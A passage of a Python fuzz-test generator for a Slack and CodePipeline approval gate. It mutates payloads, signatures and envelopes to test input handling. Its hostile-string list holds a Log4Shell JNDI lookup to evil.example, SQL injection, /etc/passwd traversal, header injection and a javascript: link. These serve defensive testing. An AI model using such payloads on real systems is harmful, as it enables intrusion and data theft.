"""What the fuzzer sends: events built from real payload shapes, then mutated.

Each generator starts from a shape the product really receives (a Slack click or modal
submission as API Gateway delivers it, CodePipeline's SNS notification, the shipped
policies) and mutates it field by field, then layer by layer (form encoding, signature,
API Gateway envelope). Every decision goes through a `Chooser`, so the same generators
serve the seeded runner (`RandomChooser`: fast, reproducible from a seed) and hypothesis
tests (a chooser over `st.data()`, which shrinks a failure to its fewest mutations).

A chooser's `chance(p)` answering False means "leave it as Slack or CodePipeline sent it",
so a shrunk example keeps only the mutations that matter.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import hmac
import json
import random
import re
import uuid
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any, Protocol, TypeVar
from urllib.parse import quote

T = TypeVar("T")

#: A path into a JSON document: dict keys and list indices.
JsonPath = tuple[str | int, ...]

SLACK = "slack_interactions"
START = "start_approval"
POLICY = "policy"
TARGETS = (SLACK, START, POLICY)


class Chooser(Protocol):
    """Where every random decision comes from."""

    def chance(self, probability: float) -> bool: ...

    def integer(self, low: int, high: int) -> int: ...

    def pick(self, options: Sequence[T]) -> T: ...

    def text(self, max_size: int) -> str: ...


class RandomChooser:
    """Decisions from a seeded `random.Random`: the same seed makes the same requests."""

    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed)

    def chance(self, probability: float) -> bool:
        return self.random.random() < probability

    def integer(self, low: int, high: int) -> int:
        return self.random.randint(low, high)

    def pick(self, options: Sequence[T]) -> T:
        return options[self.random.randrange(len(options))]

    def text(self, max_size: int) -> str:
        size = min(max_size, int(self.random.expovariate(1 / 12)))
        return "".join(self._char() for _ in range(size))

    def _char(self) -> str:
        roll = self.random.random()
        if roll < 0.55:
            return chr(self.random.randint(0x20, 0x7E))
        if roll < 0.65:
            return chr(self.random.choice((*range(0x00, 0x20), 0x7F)))
        if roll < 0.75:
            return self.random.choice("<>&|@!#^*_~`%+=;\\\"'")
        if roll < 0.88:
            code = self.random.randint(0x80, 0xFFFD)
            return chr(code) if not 0xD800 <= code <= 0xDFFF else "\u00e9"
        if roll < 0.95:
            return chr(self.random.randint(0x10000, 0x10FFFF))
        return chr(self.random.randint(0xD800, 0xDFFF))  # a lone surrogate


#: Strings that have broken somebody's parser, renderer or log line.
HOSTILE: tuple[str, ...] = (
    "",
    " ",
    "\t\r\n",
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    "@channel @here",
    "<@U0ALICE>",
    "<#C0DEPLOYS>",
    "<!subteam^S0RELEASE>",
    "<https://evil.example/|Approve here>",
    "<!date^0^{date}|x>",
    "*bold* _it_ ~strike~ `code` ```block```",
    "&amp; &lt; &gt; & < >",
    "\u202eevil\u202d",
    "\x00",
    "\x1b[31mred\x1b[0m",
    "\ud800",
    "\udfff",
    "a\ud83d",
    "\U0001f600" * 8,
    "%s%n%x%d",
    "{{7*7}} ${7*7}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE approvals; --",
    "../../../../etc/passwd",
    "\r\nX-Injected: 1",
    "null",
    "true",
    "0",
    "-1",
    "1e309",
    "NaN",
    "[]",
    "{}",
    "approve",
    "reject",
    "U0ALICE",
    "T0SANDBOX",
    "A0SANDBOX",
    "\u0130\u0131\u017f\u212a",
    "e\u0301" * 5,
    "\ufeff",
    "\u2028\u2029",
)

#: Values of the wrong JSON type for any field.
WRONG_TYPES: tuple[Any, ...] = (
    None,
    True,
    False,
    0,
    -1,
    2**64,
    1.5,
    float("inf"),
    [],
    {},
    [None],
    ["U0ALICE"],
    {"id": "U0ALICE"},
)


def huge_text(chooser: Chooser, max_size: int = 1_050_000) -> str:
    """Up to about a megabyte (or `max_size`) of one repeated, awkward piece."""
    size = min(max_size, chooser.pick((3_100, 3_100, 70_000, 70_000, 140_000, 1_050_000)))
    piece = chooser.pick(("x", "\u00e9", "\U0001f600", "<!channel>", "%", "\x00", "a b"))
    return (piece * (size // len(piece) + 1))[:size]


def nested(depth: int) -> Any:
    value: Any = []
    for _ in range(depth):
        value = [value]
    return value


def some_value(chooser: Chooser, max_size: int = 1_050_000) -> Any:
    """Any replacement value: hostile text, random text, a wrong type, huge or nested."""
    kind = chooser.pick(("hostile", "hostile", "text", "type", "type", "huge", "nested"))
    if kind == "hostile":
        return chooser.pick(HOSTILE)
    if kind == "text":
        return chooser.text(40)
    if kind == "type":
        return copy.deepcopy(chooser.pick(WRONG_TYPES))
    if kind == "huge":
        return huge_text(chooser, max_size)
    return nested(chooser.integer(1, 200))


# --------------------------------------------------------------------------- JSON editing


def json_paths(doc: Any, prefix: JsonPath = ()) -> list[JsonPath]:
    """Every path below `doc` (not `doc` itself), depth first."""
    found: list[JsonPath] = []
    items: list[tuple[str | int, Any]] = []
    if isinstance(doc, dict):
        items = [(key, value) for key, value in doc.items() if isinstance(key, str | int)]
    elif isinstance(doc, list):
        items = list(enumerate(doc))
    for key, value in items:
        path = (*prefix, key)
        found.append(path)
        if len(found) < 2_000:
            found.extend(json_paths(value, path))
    return found


def _parent(doc: Any, path: JsonPath) -> Any:
    for key in path[:-1]:
        found = (isinstance(doc, dict) and key in doc) or (
            isinstance(doc, list) and isinstance(key, int) and 0 <= key < len(doc)
        )
        if not found:
            return None
        doc = doc[key]
    return doc


def set_at(doc: Any, path: JsonPath, value: Any) -> bool:
    parent = _parent(doc, path)
    key = path[-1]
    if isinstance(parent, dict):
        parent[key] = value
        return True
    if isinstance(parent, list) and isinstance(key, int) and 0 <= key < len(parent):
        parent[key] = value
        return True
    return False


def delete_at(doc: Any, path: JsonPath) -> bool:
    parent = _parent(doc, path)
    key = path[-1]
    if isinstance(parent, dict) and key in parent:
        del parent[key]
        return True
    if isinstance(parent, list) and isinstance(key, int) and 0 <= key < len(parent):
        del parent[key]
        return True
    return False


def get_at(doc: Any, path: JsonPath) -> Any:
    parent = _parent(doc, path)
    key = path[-1]
    if isinstance(parent, dict):
        return parent.get(key)
    if isinstance(parent, list) and isinstance(key, int) and 0 <= key < len(parent):
        return parent[key]
    return None


def show_path(path: JsonPath) -> str:
    return "".join(f"[{key}]" if isinstance(key, int) else f".{key}" for key in path)[1:] or "."


def mutate_anywhere(doc: Any, chooser: Chooser, max_size: int = 1_050_000) -> str:
    """Delete or replace one field anywhere in `doc`; says what it did."""
    paths = json_paths(doc)
    if not paths:
        return "nothing to mutate"
    path = chooser.pick(paths)
    if chooser.chance(0.3):
        delete_at(doc, path)
        return f"deleted {show_path(path)}"
    value = some_value(chooser, max_size)
    set_at(doc, path, value)
    return f"{show_path(path)} = {_brief(value)}"


def _brief(value: Any) -> str:
    try:
        text = repr(value)
    except ValueError:  # an integer too long to print
        return "a value holding a huge integer"
    return text if len(text) <= 40 else f"{text[:30]}… ({len(text)} chars)"


# --------------------------------------------------------------------------- cases


@dataclass
class Case:
    """One request for one target, and how it was made."""

    target: str
    event: Any
    labels: list[str] = field(default_factory=list)

    def describe(self) -> str:
        return "; ".join(self.labels) if self.labels else "unmutated"


# --------------------------------------------------------------------------- Slack


@dataclass(frozen=True)
class OpenApproval:
    """An approval waiting in Slack: its id, its request message and who may decide it."""

    approval_id: str
    message: dict[str, Any]
    approvers: tuple[str, ...]


@dataclass
class SlackWorld:
    """What a Slack request may be built from: the open approvals, the workspace, the secret."""

    approvals: Sequence[OpenApproval]
    outsiders: tuple[str, ...]
    signing_secret: str
    team_id: str
    app_id: str
    #: A real block_actions payload: (approval, user, action id) -> payload.
    click: Callable[[OpenApproval, str, str], dict[str, Any]]
    #: A real view_submission payload of the reason modal (any approval, any user).
    submission: dict[str, Any]
    #: A real API Gateway HTTP API (v2) event of a Slack interaction.
    envelope: dict[str, Any]
    now: Callable[[], float]


APPROVE = "approve"
REJECT = "reject"
REJECT_VIEW = "approval_gate_reject"
APPROVE_VIEW = "approval_gate_approve"
REASON = "reason"
#: Margins around Slack's five-minute window, so a case's validity cannot flip in flight.
FRESH_MAX_AGE = 280
STALE_MIN_AGE = 320


def sign(secret: str, timestamp: str, body: bytes) -> str:
    """Slack's v0 signature of `body` at `timestamp` (the header text, as it is sent)."""
    base = b"v0:" + timestamp.encode("utf-8", "surrogatepass") + b":" + body
    return "v0=" + hmac.new(secret.encode(), base, hashlib.sha256).hexdigest()


def slack_case(chooser: Chooser, world: SlackWorld) -> Case:
    """A Slack interaction as API Gateway delivers it, mutated at every layer."""
    case = Case(SLACK, None)
    approval = chooser.pick(world.approvals)
    who = chooser.pick(("approver", "approver", "approver", "outsider", "outsider", "other"))
    if who == "approver":
        user = chooser.pick(approval.approvers)
    elif who == "outsider":
        user = chooser.pick(world.outsiders)
    else:
        user = "U" + hashlib.sha256(chooser.text(8).encode("utf-8", "replace")).hexdigest()[:8]
    action = chooser.pick((APPROVE, REJECT))
    if chooser.chance(0.35):
        payload = _submission(chooser, world, approval, user, action)
        case.labels.append(f"view_submission {action} by {user}")
    else:
        payload = world.click(approval, user, action)
        case.labels.append(f"block_actions {action} by {user}")
    if chooser.chance(0.65):
        for _ in range(chooser.integer(1, 3)):
            case.labels.append(_mutate_payload(chooser, world, payload))
    body = _form(chooser, payload, case.labels)
    case.event = _http_event(chooser, world, body, case.labels)
    return case


def _submission(
    chooser: Chooser, world: SlackWorld, approval: OpenApproval, user: str, action: str
) -> dict[str, Any]:
    payload = copy.deepcopy(world.submission)
    payload["user"].update({"id": user, "name": user.lower(), "username": user.lower()})
    view = payload["view"]
    view["private_metadata"] = approval.approval_id
    view["callback_id"] = REJECT_VIEW if action == REJECT else APPROVE_VIEW
    reason = chooser.pick(("Canary error rate is up 4%.", None, "   ", "<!channel> see thread"))
    view["state"] = {"values": {REASON: {REASON: {"type": "plain_text_input", "value": reason}}}}
    return payload


def _approval_id_path(payload: dict[str, Any]) -> JsonPath:
    return (
        ("actions", 0, "value")
        if payload.get("type") == "block_actions"
        else (
            "view",
            "private_metadata",
        )
    )


def _tampered_id(chooser: Chooser, world: SlackWorld, current: Any) -> tuple[Any, str]:
    text = current if isinstance(current, str) and current else "0" * 32
    how = chooser.pick(
        ("flip", "unknown", "other", "upper", "short", "long", "space", "value", "huge")
    )
    if how == "flip":
        index = chooser.integer(0, len(text) - 1)
        swapped = "0" if text[index] != "0" else "1"
        return text[:index] + swapped + text[index + 1 :], "approval id with one digit changed"
    if how == "unknown":
        seed = str(chooser.integer(0, 2**32)).encode()
        return hashlib.sha256(seed).hexdigest()[:32], "unknown approval id"
    if how == "other":
        other = chooser.pick(world.approvals).approval_id
        return other, "approval id of another open approval"
    if how == "upper":
        return text.upper(), "approval id in upper case"
    if how == "short":
        return text[:-1], "approval id one digit short"
    if how == "long":
        return text + "0", "approval id one digit long"
    if how == "space":
        return chooser.pick((" ", "\n", "\t")) + text, "approval id with white space"
    if how == "value":
        value = some_value(chooser)
        return value, f"approval id = {_brief(value)}"
    return huge_text(chooser), "huge approval id"


def _mutate_payload(chooser: Chooser, world: SlackWorld, payload: dict[str, Any]) -> str:
    """One mutation of the interaction payload; says what it did."""
    what = chooser.pick(
        (
            "user",
            "team",
            "app",
            "approval id",
            "approval id",
            "action id",
            "type",
            "actions",
            "callback",
            "reason",
            "trigger",
            "channel",
            "anywhere",
            "anywhere",
        )
    )
    if what == "user":
        if chooser.chance(0.2):
            delete_at(payload, ("user", "id") if chooser.chance(0.5) else ("user",))
            return "user removed"
        user = chooser.pick(
            (
                *world.outsiders,
                *(a for approval in world.approvals for a in approval.approvers),
                None,
            )
        )
        value = user if user is not None and chooser.chance(0.7) else some_value(chooser)
        set_at(payload, ("user", "id"), value)
        return f"user.id = {_brief(value)}"
    if what == "team":
        how = chooser.pick(("other", "missing", "string", "user team", "lower"))
        if how == "other":
            set_at(payload, ("team", "id"), "T0OTHERTEAM")
            set_at(payload, ("user", "team_id"), "T0OTHERTEAM")
        elif how == "missing":
            delete_at(payload, ("team",))
        elif how == "string":
            payload["team"] = world.team_id
        elif how == "user team":
            set_at(payload, ("user", "team_id"), "T0OTHERTEAM")
        else:
            set_at(payload, ("team", "id"), world.team_id.lower())
        return f"team: {how}"
    if what == "app":
        value = chooser.pick(("A0OTHERAPP", None, world.app_id.lower(), world.app_id + " ", 7))
        if chooser.chance(0.2):
            payload.pop("api_app_id", None)
            return "api_app_id removed"
        payload["api_app_id"] = value
        return f"api_app_id = {value!r}"
    if what == "approval id":
        path = _approval_id_path(payload)
        value, label = _tampered_id(chooser, world, get_at(payload, path))
        set_at(payload, path, value)
        return label
    if what == "action id":
        value = chooser.pick(
            ("APPROVE", "approve ", "approve_all", "reject\x00", "", "delete", None, 1, REJECT)
        )
        set_at(payload, ("actions", 0, "action_id"), value)
        return f"action_id = {value!r}"
    if what == "type":
        if chooser.chance(0.2):
            payload.pop("type", None)
            return "type removed"
        value = chooser.pick(
            (
                "block_actions ",
                "BLOCK_ACTIONS",
                "interactive_message",
                "view_closed",
                "shortcut",
                "view_submission" if payload.get("type") == "block_actions" else "block_actions",
                "",
                None,
                1,
            )
        )
        payload["type"] = value
        return f"type = {value!r}"
    if what == "actions":
        actions = payload.get("actions")
        first = actions[0] if isinstance(actions, list) and actions else {"action_id": APPROVE}
        value = chooser.pick(([], [first, first], first, None, [APPROVE], [[first]], "approve"))
        payload["actions"] = copy.deepcopy(value)
        return f"actions = {_brief(value)}"
    if what == "callback":
        value = chooser.pick((REJECT_VIEW, APPROVE_VIEW, "approval_gate", "", None, 3, REJECT))
        set_at(payload, ("view", "callback_id"), value)
        return f"view.callback_id = {value!r}"
    if what == "reason":
        if chooser.chance(0.2):
            delete_at(payload, ("view", "state"))
            return "view.state removed"
        value = some_value(chooser)
        set_at(payload, ("view", "state", "values", REASON, REASON, "value"), value)
        return f"reason = {_brief(value)}"
    if what == "trigger":
        value = some_value(chooser)
        payload["trigger_id"] = value
        return f"trigger_id = {_brief(value)}"
    if what == "channel":
        value = chooser.pick(("C0OTHER", "D0DIRECT", "", None, "<#C0DEPLOYS>", 1))
        set_at(payload, ("channel", "id"), value)
        set_at(payload, ("container", "channel_id"), value)
        return f"channel = {value!r}"
    return mutate_anywhere(payload, chooser)


_QUOTED: dict[bytes, str] = {}


def percent_encode(data: bytes) -> str:
    """`urllib.parse.quote(data, safe="")`, fast on the huge repetitive bodies the fuzz
    makes: percent-encoding goes byte by byte, so equal chunks encode equally."""
    if len(data) <= 8_192:
        return quote(data, safe="")
    parts = []
    for start in range(0, len(data), 4_096):
        chunk = data[start : start + 4_096]
        encoded = _QUOTED.get(chunk)
        if encoded is None:
            encoded = quote(chunk, safe="")
            if len(_QUOTED) < 4_096:
                _QUOTED[chunk] = encoded
        parts.append(encoded)
    return "".join(parts)


def _form(chooser: Chooser, payload: dict[str, Any], labels: list[str]) -> bytes:
    """The raw request body: `payload=<JSON>` form-encoded, or one of its oddities."""
    try:
        text = json.dumps(payload, ensure_ascii=chooser.chance(0.8))
    except (ValueError, RecursionError):  # not JSON-able after a mutation
        text = json.dumps({"type": "block_actions"})
    quoted = percent_encode(text.encode("utf-8", "surrogatepass"))
    normal = f"payload={quoted}".encode()
    if not chooser.chance(0.25):
        return normal
    oddity = chooser.pick(
        (
            "no payload field",
            "empty body",
            "two payload fields",
            "two different payloads",
            "payload not JSON",
            "JSON not an object",
            "deeply nested JSON",
            "extra fields",
            "too many fields",
            "field without =",
            "semicolon separator",
            "raw JSON body",
            "invalid UTF-8 bytes",
            "percent-encoded invalid UTF-8",
            "UTF-16 body",
            "byte order mark",
            "huge body",
            "plus for space",
        )
    )
    labels.append(f"form: {oddity}")
    if oddity == "no payload field":
        return f"data={quoted}".encode()
    if oddity == "empty body":
        return b""
    if oddity == "two payload fields":
        return normal + b"&" + normal
    if oddity == "two different payloads":
        return normal + b"&payload=" + quote(json.dumps({"type": "view_closed"})).encode()
    if oddity == "payload not JSON":
        cut = chooser.integer(0, max(0, len(text) - 1))
        return b"payload=" + percent_encode(text[:cut].encode("utf-8", "surrogatepass")).encode()
    if oddity == "JSON not an object":
        value = chooser.pick(([payload], "block_actions", 1, None, True, 1.5))
        return b"payload=" + quote(json.dumps(value)).encode()
    if oddity == "deeply nested JSON":
        depth = chooser.pick((100, 5_000, 200_000))
        return b"payload=" + quote("[" * depth + "]" * depth).encode()
    if oddity == "extra fields":
        return normal + b"&token=legacy-verification-token&x=1"
    if oddity == "too many fields":
        return b"a=1&" * chooser.integer(20, 200) + normal
    if oddity == "field without =":
        return b"payload&" + normal
    if oddity == "semicolon separator":
        return normal + b";x=1"
    if oddity == "raw JSON body":
        return text.encode("utf-8", "surrogatepass")
    if oddity == "invalid UTF-8 bytes":
        at = chooser.integer(0, len(normal))
        return (
            normal[:at]
            + chooser.pick((b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\x80"))
            + (normal[at:])
        )
    if oddity == "percent-encoded invalid UTF-8":
        return b"payload=%FF%FE" + quoted.encode()
    if oddity == "UTF-16 body":
        return normal.decode().encode("utf-16")
    if oddity == "byte order mark":
        return b"\xef\xbb\xbf" + normal
    if oddity == "huge body":
        padding = "x" * chooser.pick((40_000, 70_000, 1_050_000))
        return normal + b"&pad=" + padding.encode()
    return normal.replace(b"%20", b"+")


_SIGNATURE = "x-slack-signature"
_TIMESTAMP = "x-slack-request-timestamp"


def _headers(chooser: Chooser, world: SlackWorld, body: bytes, labels: list[str]) -> dict[str, Any]:
    now = int(world.now())
    timestamp = str(now - chooser.integer(0, 3))
    secret = world.signing_secret
    signed_body = body
    headers: dict[str, Any] = {}
    how = "valid" if chooser.chance(0.6) else chooser.pick(_SIGNATURE_MUTATIONS)
    if how == "timestamp not a number":
        timestamp = chooser.pick(("abc", "", " ", "17961447OO", "0x6B2C3D4E", "1e9", "NaN"))
    elif how == "negative timestamp":
        timestamp = "-" + timestamp
    elif how == "huge timestamp":
        timestamp = "9" * chooser.pick((13, 40, 5_000))
    elif how == "float timestamp":
        timestamp = f"{timestamp}.{chooser.integer(0, 999)}"
    elif how == "non-ASCII digits":
        # Arabic-Indic, fullwidth and N'Ko digits: str.isdigit() and int() take them all.
        zeros = chooser.pick((0x0660, 0xFF10, 0x07C0))
        digits = "".join(chr(zeros + n) for n in range(10))
        timestamp = "".join(digits[int(d)] for d in timestamp)
    elif how == "leading zeros":
        timestamp = "00" + timestamp
    elif how == "white space around timestamp":
        timestamp = chooser.pick((" ", "\t", "\n")) + timestamp
    elif how == "stale timestamp":
        timestamp = str(now - chooser.pick((STALE_MIN_AGE, 3_600, 86_400 * 365, now)))
    elif how == "future timestamp":
        timestamp = str(now + chooser.pick((STALE_MIN_AGE, 3_600, 10**11)))
    elif how == "inside the window":
        timestamp = str(now + chooser.integer(-FRESH_MAX_AGE, FRESH_MAX_AGE))
    elif how == "signed over a different body":
        signed_body = chooser.pick((b"payload=%7B%7D", body + b" ", body[:-1], b""))
    elif how == "wrong secret":
        secret = chooser.pick(("wrong-signing-secret", secret + " ", secret.upper(), "x"))
    signature = sign(secret, timestamp, signed_body)
    hexdigest = signature[3:]
    if how == "v1= prefix":
        signature = "v1=" + hexdigest
    elif how == "no v0= prefix":
        signature = hexdigest
    elif how == "truncated signature":
        signature = signature[: chooser.integer(0, len(signature) - 1)]
    elif how == "non-hex signature":
        at = chooser.integer(3, len(signature) - 1)
        signature = signature[:at] + chooser.pick(("g", "Z", "-", "é")) + signature[at + 1 :]
    elif how == "upper-case hex":
        signature = "v0=" + hexdigest.upper()
    elif how == "empty signature":
        signature = ""
    elif how == "two signatures":
        signature = f"{signature},{sign('other', timestamp, body)}"
    elif how == "signature with trailing space":
        signature += " "
    elif how == "other timestamp header":
        timestamp = str(int(timestamp) - 1) if timestamp.isdigit() else "1"
    headers[_TIMESTAMP] = timestamp
    headers[_SIGNATURE] = signature
    if how == "missing timestamp header":
        del headers[_TIMESTAMP]
    elif how == "missing signature header":
        del headers[_SIGNATURE]
    elif how == "missing both headers":
        headers.clear()
    elif how == "header names in another case":
        headers = {
            "X-Slack-Request-Timestamp": headers[_TIMESTAMP],
            chooser.pick(("X-SLACK-SIGNATURE", "X-Slack-Signature")): headers[_SIGNATURE],
        }
    if how != "valid":
        labels.append(f"signature: {how}")
    return headers


_SIGNATURE_MUTATIONS: tuple[str, ...] = (
    "missing timestamp header",
    "missing signature header",
    "missing both headers",
    "header names in another case",
    "timestamp not a number",
    "negative timestamp",
    "huge timestamp",
    "float timestamp",
    "non-ASCII digits",
    "leading zeros",
    "white space around timestamp",
    "stale timestamp",
    "future timestamp",
    "inside the window",
    "v1= prefix",
    "no v0= prefix",
    "truncated signature",
    "non-hex signature",
    "upper-case hex",
    "empty signature",
    "two signatures",
    "signature with trailing space",
    "signed over a different body",
    "wrong secret",
    "other timestamp header",
)


def _http_event(chooser: Chooser, world: SlackWorld, body: bytes, labels: list[str]) -> Any:
    """The API Gateway HTTP API (v2) event around `body`, signed (or not) like Slack."""
    event = dict(world.envelope)
    event["requestContext"] = copy.deepcopy(world.envelope.get("requestContext"))
    headers = {
        key: value
        for key, value in world.envelope.get("headers", {}).items()
        if key not in (_SIGNATURE, _TIMESTAMP)
    }
    headers["content-length"] = str(len(body))
    headers.update(_headers(chooser, world, body, labels))
    event["headers"] = headers
    as_base64 = chooser.chance(0.65)
    if as_base64:
        text = base64.b64encode(body).decode()
        event["isBase64Encoded"] = True
        if chooser.chance(0.05):
            how = chooser.pick(("url-safe alphabet", "no padding", "line breaks", "white space"))
            labels.append(f"base64: {how}")
            if how == "url-safe alphabet":
                text = base64.urlsafe_b64encode(body).decode()
            elif how == "no padding":
                text = text.rstrip("=")
            elif how == "line breaks":
                text = base64.encodebytes(body).decode()
            else:
                text = " " + text
    else:
        text = body.decode("utf-8", "surrogateescape")
        if chooser.chance(0.5):
            event["isBase64Encoded"] = False
        else:
            event.pop("isBase64Encoded", None)
        if chooser.chance(0.03):
            text += chooser.pick(("\ud800", "\udfff", "\ud83d"))
            labels.append("body: lone surrogate in the text")
    event["body"] = text
    if chooser.chance(0.08):
        labels.append("isBase64Encoded mismatched")
        event["isBase64Encoded"] = not as_base64
    if chooser.chance(0.08):
        return _mutate_envelope(chooser, event, labels)
    return event


def _mutate_envelope(chooser: Chooser, event: dict[str, Any], labels: list[str]) -> Any:
    how = chooser.pick(
        (
            "event not an object",
            "headers not an object",
            "headers missing",
            "body not text",
            "body missing",
            "isBase64Encoded not a boolean",
            "header value not text",
            "huge header",
            "two values in one header",
        )
    )
    labels.append(f"event: {how}")
    if how == "event not an object":
        return copy.deepcopy(chooser.pick((None, [], "event", 0, [event])))
    if how == "headers not an object":
        event["headers"] = chooser.pick((None, [], "x-slack-signature: v0=0", 1))
    elif how == "headers missing":
        event.pop("headers", None)
    elif how == "body not text":
        event["body"] = copy.deepcopy(chooser.pick((None, 0, [], {"payload": "{}"}, True)))
    elif how == "body missing":
        event.pop("body", None)
    elif how == "isBase64Encoded not a boolean":
        event["isBase64Encoded"] = chooser.pick(("true", 1, None, "yes"))
    elif how == "header value not text":
        name = chooser.pick((_SIGNATURE, _TIMESTAMP))
        event["headers"][name] = copy.deepcopy(chooser.pick((None, 1, ["v0=0"], {"v": 1}, 1.5)))
    elif how == "huge header":
        name = chooser.pick((_SIGNATURE, _TIMESTAMP, "x-forwarded-for"))
        event["headers"][name] = huge_text(chooser)
    else:
        name = chooser.pick((_SIGNATURE, _TIMESTAMP))
        value = event["headers"].get(name, "")
        event["headers"][name] = f"{value},{value}"
    return event


# --------------------------------------------------------------------------- SNS


@dataclass
class StartWorld:
    """What an SNS approval notification may be built from. Names and tokens that pass
    validation come only from these small pools, so the number of workflows a run starts
    stays bounded however many requests it sends."""

    pipelines: tuple[str, ...]
    stages: tuple[str, ...]
    actions: tuple[str, ...]
    tokens: tuple[str, ...]
    envelope: dict[str, Any]
    now: Callable[[], datetime]
    #: The chance that a message carries a token never seen before (a new approval).
    fresh: float = 0.0


def _minute(moment: datetime) -> str:
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%MZ")


def approval_message(chooser: Chooser, world: StartWorld) -> dict[str, Any]:
    """CodePipeline's approval notification (the SNS message's JSON), unmutated."""
    pipeline = chooser.pick(world.pipelines)
    token = chooser.pick(world.tokens)
    if world.fresh and chooser.chance(world.fresh):
        token = str(uuid.UUID(int=chooser.integer(0, 2**128 - 1), version=4))
    region = "us-east-2"
    console = f"https://console.aws.amazon.com/codepipeline/home?region={region}#/view/{pipeline}"
    return {
        "region": region,
        "consoleLink": console,
        "approval": {
            "pipelineName": pipeline,
            "stageName": chooser.pick(world.stages),
            "actionName": chooser.pick(world.actions),
            "token": token,
            "expires": _minute(world.now() + timedelta(days=3)),
            "externalEntityLink": "https://github.com/example-org/web/compare/v1.41.0...v1.42.0",
            "approvalReviewLink": f"{console}/Approve/Gate/approve/{token}",
            "customData": "Release 1.42.0: check the canary dashboard before approving.",
        },
    }


_NAME_FIELDS = ("pipelineName", "stageName", "actionName")
_BAD_EXPIRES = (
    "2016-07-07T20:22Z",
    "9999-12-31T23:59Z",
    "0001-01-01T00:00Z",
    "0000-01-01T00:00Z",
    "2026-02-30T10:00Z",
    "2026-13-45T25:61Z",
    "2026-12-04T18:00:00.123456Z",
    "2026-12-04T18:00:00.1234567Z",
    "2026-12-04T18:00+00:00",
    "2026-12-04T18:00+01:00",
    "2026-12-04T18:00-00:00",
    "2026-12-04 18:00Z",
    "2026-12-04T18:00",
    "2026-12-04T18:00Z\n",
    "tomorrow",
    "1796230800",
    "",
)


_VALID_NAME = re.compile(r"[A-Za-z0-9.@\-_]{1,100}")


def _invalid_name(chooser: Chooser) -> Any:
    """A pipeline, stage or action name CodePipeline could not have (so it starts nothing:
    the workflows a run starts stay few)."""
    how = chooser.pick(("hostile", "type", "long", "text", "huge", "empty"))
    if how == "hostile":
        value = chooser.pick(HOSTILE)
        return value + " <" if _VALID_NAME.fullmatch(value) else value
    if how == "type":
        return copy.deepcopy(chooser.pick(WRONG_TYPES))
    if how == "long":
        return "a" * chooser.pick((101, 2_000))
    if how == "text":
        return chooser.text(20) + " <"
    if how == "huge":
        return huge_text(chooser)
    return ""


def _invalid_token(chooser: Chooser, token: str) -> Any:
    how = chooser.pick(("no dashes", "braces", "short", "long", "hostile", "type", "huge", "nl"))
    if how == "no dashes":
        return token.replace("-", "")
    if how == "braces":
        return "{" + token + "}"
    if how == "short":
        return token[:-1]
    if how == "long":
        return token + "a"
    if how == "hostile":
        return chooser.pick(HOSTILE)
    if how == "type":
        return copy.deepcopy(chooser.pick(WRONG_TYPES))
    if how == "huge":
        return "a" * chooser.pick((2_048, 100_000))
    return token + "\n"


def _mutate_message(chooser: Chooser, world: StartWorld, doc: dict[str, Any]) -> str:
    approval: Any = doc.get("approval")
    what = chooser.pick(
        (
            "name",
            "name",
            "token",
            "token",
            "expires",
            "expires",
            "customData",
            "customData",
            "link",
            "region",
            "approval",
            "anywhere",
        )
    )
    if not isinstance(approval, dict) and what not in ("region", "anywhere", "approval"):
        what = "anywhere"
    if what == "name":
        key = chooser.pick(_NAME_FIELDS)
        if chooser.chance(0.15):
            approval.pop(key, None)
            return f"approval.{key} removed"
        pools = {"pipelineName": world.pipelines, "stageName": world.stages}
        value = (
            chooser.pick(pools.get(key, world.actions))
            if chooser.chance(0.2)
            else _invalid_name(chooser)
        )
        approval[key] = value
        return f"approval.{key} = {_brief(value)}"
    if what == "token":
        token = str(approval.get("token"))
        how = chooser.pick(("other", "upper", "invalid", "invalid", "removed"))
        if how == "other":
            approval["token"] = chooser.pick(world.tokens)
        elif how == "upper":
            approval["token"] = token.upper()
        elif how == "removed":
            approval.pop("token", None)
        else:
            approval["token"] = _invalid_token(chooser, token)
        return f"approval.token: {how}"
    if what == "expires":
        if chooser.chance(0.15):
            approval.pop("expires", None)
            return "approval.expires removed"
        value = chooser.pick(_BAD_EXPIRES) if chooser.chance(0.8) else some_value(chooser)
        approval["expires"] = value
        return f"approval.expires = {_brief(value)}"
    if what == "customData":
        how = chooser.pick(("hostile", "markup", "500", "501", "huge", "type", "removed"))
        if how == "hostile":
            approval["customData"] = chooser.pick(HOSTILE)
        elif how == "markup":
            approval["customData"] = "<!channel> *urgent* <https://evil.example|approve> <@U0BOB>"
        elif how in ("500", "501"):
            approval["customData"] = ("<!here> " * 100)[: int(how)]
        elif how == "huge":
            approval["customData"] = huge_text(chooser)[:300_000]
        elif how == "type":
            approval["customData"] = copy.deepcopy(chooser.pick(WRONG_TYPES))
        else:
            approval.pop("customData", None)
        return f"approval.customData: {how}"
    if what == "link":
        key = chooser.pick(("externalEntityLink", "approvalReviewLink"))
        target = approval
        if chooser.chance(0.4):
            key, target = "consoleLink", doc
        value = chooser.pick(
            (
                "javascript:alert(1)",
                "https://evil.example/|<!channel>",
                "https://example.com/a b",
                "https://example.com/<@U0ALICE>",
                "https://" + "a" * 2_100,
                "ftp://example.com/",
                None,
                3,
            )
        )
        target[key] = value
        return f"{key} = {_brief(value)}"
    if what == "region":
        value = chooser.pick(("", "US-EAST-2", "us-east-2 ", "mars-north-1x", None, 2, "<!here>"))
        if chooser.chance(0.2):
            doc.pop("region", None)
            return "region removed"
        doc["region"] = value
        return f"region = {value!r}"
    if what == "approval":
        value = copy.deepcopy(chooser.pick((None, [], "approval", 1, [approval])))
        doc["approval"] = value
        return f"approval = {_brief(value)}"
    return mutate_anywhere(doc, chooser)


def _message_text(chooser: Chooser, doc: dict[str, Any], labels: list[str]) -> Any:
    try:
        text = json.dumps(doc)
    except (ValueError, RecursionError):
        text = "{}"
    if not chooser.chance(0.12):
        return text
    how = chooser.pick(
        (
            "truncated JSON",
            "not JSON",
            "JSON not an object",
            "deeply nested JSON",
            "larger than SNS allows",
            "not text",
            "empty",
        )
    )
    labels.append(f"message: {how}")
    if how == "truncated JSON":
        return text[: chooser.integer(0, len(text) - 1)]
    if how == "not JSON":
